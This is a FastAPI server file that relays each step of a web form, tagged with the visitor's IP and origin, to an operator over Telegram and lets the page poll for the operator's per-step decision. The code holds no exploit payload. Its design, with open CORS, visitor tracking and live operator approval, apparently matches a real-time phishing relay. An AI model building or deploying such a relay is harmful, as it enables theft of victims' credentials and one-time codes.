"""FastAPI entrypoint — relays form steps to the operator and exposes their status."""

import json
import logging
import sys
from contextlib import asynccontextmanager
from typing import Any, Callable, Optional, Union

from fastapi import FastAPI, Request
from fastapi.middleware.cors import CORSMiddleware
from fastapi.responses import JSONResponse
from pydantic import BaseModel, ConfigDict, Field

import config
from relay.builder import RelayServices, build_services
from relay.state import StepSubmission
from stores.identity import normalize_address

logger = logging.getLogger("step_relay")


# ── Request models ──────────────────────────────────────────────────────
class StepRequest(BaseModel):
    model_config = ConfigDict(populate_by_name=True)

    step: str = ""
    value: Any = ""
    origin: Optional[str] = None
    user_id: Optional[Union[str, int]] = Field(default=None, alias="userId")


# ── App factory ─────────────────────────────────────────────────────────
def create_app(
    services_factory: Callable[[], RelayServices] = build_services,
    background: bool = True,
    check_config: bool = True,
) -> FastAPI:
    """
    Build the app. Services are created in the lifespan so importing this
    module needs no Telegram credentials.
    """

    @asynccontextmanager
    async def lifespan(app: FastAPI):
        if check_config:
            issues = config.validate_config()
            if issues:
                raise RuntimeError(f"Invalid configuration: {issues}")

        services = services_factory()
        await services.start(background=background)
        app.state.services = services
        try:
            yield
        finally:
            await services.close()

    app = FastAPI(title="Step Relay", version="1.0.0", lifespan=lifespan)
    app.add_middleware(
        CORSMiddleware,
        allow_origins=["*"],
        allow_methods=["*"],
        allow_headers=["*"],
    )

    # ── Endpoints ───────────────────────────────────────────────────────

    @app.post("/step")
    async def submit_step(req: StepRequest, request: Request):
        """Forward one form step to the operator."""
        if not req.user_id:
            return JSONResponse(status_code=400, content={"error": "No userId"})

        services: RelayServices = request.app.state.services
        result = await services.coordinator.submit(StepSubmission(
            user_id=str(req.user_id),
            step=req.step,
            value=_render_value(req.value),
            origin=req.origin or "",
            address=_client_address(request),
        ))
        return result.to_response()

    @app.post("/auth-visit")
    async def auth_visit(request: Request):
        """Assign (or look up) the visitor's user id."""
        services: RelayServices = request.app.state.services
        user_id = services.coordinator.record_visit(_client_address(request))
        return {"userId": user_id}

    @app.get("/status")
    def get_status(request: Request, userId: Optional[str] = None, step: str = ""):
        """Current operator decision for (userId, step)."""
        if not userId:
            return {"status": "none"}
        services: RelayServices = request.app.state.services
        return {"status": services.coordinator.status(userId, step)}

    @app.get("/health")
    def health(request: Request):
        services: RelayServices = request.app.state.services
        return {"status": "ok", "poller": services.poller.snapshot()}

    return app


# ── Helpers ─────────────────────────────────────────────────────────────
def _render_value(value: Any) -> str:
    """Submitted value as display text; non-string JSON is shown as JSON."""
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    return json.dumps(value, ensure_ascii=False)


def _client_address(request: Request) -> str:
    """Peer address, or the first X-Forwarded-For hop behind a trusted proxy."""
    if config.TRUST_PROXY_HEADERS:
        forwarded = request.headers.get("x-forwarded-for", "")
        if forwarded:
            return normalize_address(forwarded.split(",")[0])
    host = request.client.host if request.client else ""
    return normalize_address(host)


app = create_app()


# ── Run ─────────────────────────────────────────────────────────────────
if __name__ == "__main__":
    import uvicorn

    logging.basicConfig(
        level=config.LOG_LEVEL,
        format="%(asctime)s | %(levelname)s | %(name)s | %(message)s",
    )
    problems = config.validate_config()
    if problems:
        for problem in problems:
            logger.error("Configuration error: %s", problem)
        sys.exit(1)

    logger.info("Server starting on port %d", config.PORT)
    uvicorn.run(app, host=config.HOST, port=config.PORT)
